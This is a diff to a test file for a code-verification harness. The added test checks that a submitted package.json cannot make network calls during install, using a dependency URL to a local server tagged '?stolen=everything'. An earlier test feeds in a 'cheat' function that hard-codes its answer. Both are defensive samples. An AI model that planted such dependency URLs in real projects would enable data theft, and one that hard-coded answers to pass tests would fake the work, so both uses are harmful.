@@ -1,4 +1,6 @@
-import { expect, test } from 'vitest';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { expect, onTestFinished, test } from 'vitest';
 import { provingGround } from '../../support/proving.ts';
 
 const math = 'export function add(a, b) {\n  return a + b;\n}\n';
@@ -126,4 +128,23 @@ test('Python is proved by its own tests', async () => {
   expect(honest.proof).toMatchObject({ accepted: true, counts: { total: 2, passed: 2 } });
   const cheat = await ground.prove({ 'shop.py': 'def price(n):\n    return 4\n' });
   expect(cheat.proof).toMatchObject({ accepted: false, failures: [{ name: expect.stringContaining('test_five') }] });
+});
+
+test('nothing of a change reaches the network: what is installed is decided by the commit that the run started from', async () => {
+  const heard: string[] = [];
+  const server = createServer((request, response) => {
+    heard.push(request.url ?? '');
+    response.writeHead(404).end();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  onTestFinished(() => void server.close());
+  const host = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  const manifest = { name: 'math', version: '1.0.0', type: 'module', scripts: { test: 'node --test' } };
+  const ground = await provingGround({ ...shop, files: { ...shop.files, 'package.json': JSON.stringify(manifest) } });
+  const { proof } = await ground.prove({
+    'src/math.js': half,
+    'package.json': JSON.stringify({ ...manifest, dependencies: { helper: `${host}/helper.tgz?stolen=everything` } }),
+  });
+  expect(heard).toEqual([]);
+  expect(proof.isolation).not.toBe('none');
 });
